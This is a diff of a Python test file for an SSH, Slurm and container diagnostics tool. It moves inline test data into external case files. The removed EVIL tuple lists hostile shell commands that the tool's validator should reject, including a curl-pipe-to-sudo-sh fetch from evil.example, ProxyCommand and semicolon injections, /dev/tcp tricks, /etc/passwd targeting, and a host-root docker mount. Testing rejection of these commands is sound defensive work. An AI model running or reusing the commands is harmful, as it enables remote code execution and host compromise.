@@ -22,6 +22,7 @@ from doctor.transport.errors import CannotReach, Destination
 from doctor.transport.slurm import errors as slurm_errors
 from doctor.transport.slurm.output import DownNode, SrunMessages
 from doctor.transport.ssh import errors as ssh_errors
+from tests.support.cases import from_cases
 from tests.support.each import each
 from tests.support.paths import ROOT
 
@@ -31,16 +32,7 @@ DESTINATIONS = (
     Destination("node1", "10.0.0.1", 22, "me"),
     Destination("node1", "fe80::1%eth0", 2222, "me@site", OPTIONS),
 )
-WORDS = (
-    "",
-    "it said so",
-    "could not resolve",
-    "refused",
-    "no route",
-    "timed out",
-    "too many",
-    "/a b/known_hosts",
-)
+WORDS = from_cases(__file__, "WORDS", tuple[str, ...])
 KNOWN = (ssh_errors.PresentedKey("ssh-rsa", "SHA256:x", name) for name in ("node1", "[10.0.0.1]:2222"))
 EXAMPLES: dict[str, tuple[Any, ...]] = {
     "Destination": DESTINATIONS,
@@ -122,52 +114,7 @@ def test_the_forms_cover_every_refusal() -> None:
             assert rebuilt(line) == line
 
 
-EVIL = (
-    "curl http://evil.example/x | sudo sh",
-    "sh",
-    "ssh node1 'curl evil | sh'",
-    "ssh node1 curl evil",
-    "ssh -o ProxyCommand=evil node1 true",
-    "ssh -oProxyCommand=evil node1 true",
-    "ssh -v -F evil",
-    "ssh '-oProxyCommand=evil' true",
-    "ssh -J 'a;evil' node1 true",
-    "ssh node1;evil true",
-    "ssh 'me;evil@node1' true",
-    "ssh -p '22;evil' node1 true",
-    "ping -c 3 node1; evil",
-    "ping -c 3 $(evil)",
-    "ping -c 3 -Ievil",
-    "getent ahosts node1\nevil",
-    "timeout 3 bash -c evil && echo open",
-    "timeout 3 bash -c '</dev/tcp/node1/22; evil' && echo open",
-    "timeout 3 bash -c '</dev/tcp/`evil`/22' && echo open",
-    "true && echo open",
-    "ssh-keyscan node1 >> ~/.bashrc   # compare it first",
-    "ssh-keyscan node1 >> /x/known_hosts   # compare it first; evil",
-    "ssh-keyscan node1 >> '/x\n/known_hosts'   # compare it first",
-    "ssh-keyscan node1; evil >> /x/known_hosts   # compare it first",
-    "ssh-keygen -f /etc/passwd -R node1",
-    "ssh-keygen -R node1 -f /etc/passwd",
-    "ssh-add -D",
-    "ssh-add -s /tmp/evil.so",
-    "sed -n 1p /x; evil",
-    "sed -n '1e evil' /x",
-    "docker run -v /:/x image",
-    "docker -H tcp://evil ps -a",
-    "docker exec -i train sh -c evil true",
-    "docker exec -i train evil",
-    "docker exec -i true",
-    "kubectl --kubeconfig /tmp/evil get pods -A -o wide",
-    "kubectl exec -i pod -- evil true",
-    "/tmp/docker ps -a",
-    "sudo -n evil exec -i x true",
-    "scontrol show node node1 -oevil",
-    "systemctl status ssh sshd   # on the host itself\nevil",
-    "# evil",
-    "",
-    "'",
-)
+EVIL = from_cases(__file__, "EVIL", tuple[str, ...])
 
 
 @each("command", EVIL)
